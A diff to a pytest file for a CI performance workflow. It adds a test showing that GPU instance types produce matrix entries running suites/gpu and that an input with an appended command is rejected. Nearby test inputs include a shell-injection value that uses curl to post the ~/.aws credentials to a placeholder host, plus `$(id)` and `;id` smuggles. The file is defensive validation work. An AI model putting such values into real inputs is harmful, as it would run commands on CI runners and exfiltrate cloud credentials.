@@ -185,6 +185,26 @@ def test_perf_types_job_builds_the_matrix_per_architecture() -> None:
         {"arch": "arm64", "instance_type": "c7g.metal"}]
 
 
+def test_perf_types_job_adds_gpu_entries_that_run_the_gpu_suite() -> None:
+    """The `cuda` tox env's counterpart: GPU types (either architecture) run suites/gpu, the others SUITES."""
+    proc, output = _run_types_job(X86_64="m7i.large", ARM64="", CUDA="g5.xlarge, g5g.xlarge,")
+    assert proc.returncode == 0, proc.stderr
+    include = json.loads(output.strip().partition("=")[2])["include"]
+    assert include == [{"arch": "x86_64", "instance_type": "m7i.large"},
+                       {"arch": "cuda", "instance_type": "g5.xlarge", "suites": "suites/gpu"},
+                       {"arch": "cuda", "instance_type": "g5g.xlarge", "suites": "suites/gpu"}]
+    doc = load("perf.yml")
+    assert doc["on"]["workflow_dispatch"]["inputs"]["cuda_types"]["default"] == "g5.xlarge,g5g.xlarge"
+    perf = doc["jobs"]["perf"]
+    assert perf["env"]["MATRIX_SUITES"] == "${{ matrix.suites }}"
+    suites = next(s for s in steps(perf) if provisions(s))
+    assert 'read -ra suites <<< "${MATRIX_SUITES:-$SUITES}"' in suites["run"]
+    proc, output = _run_types_job(CUDA="g5.xlarge;id")
+    assert proc.returncode != 0 and output == ""
+    assert proc.stderr.strip().splitlines()[-1] == ("perf.yml input cuda_types: 'g5.xlarge;id' is not allowed; "
+                                                    "expected comma-separated FAMILY.SIZE names such as g5.xlarge")
+
+
 @pytest.mark.parametrize(("name", "value"), [
     ("X86_64", 'm7i.large"; curl -d @$HOME/.aws http://x #'),
     ("ARM64", "c7g.large,$(id)"),
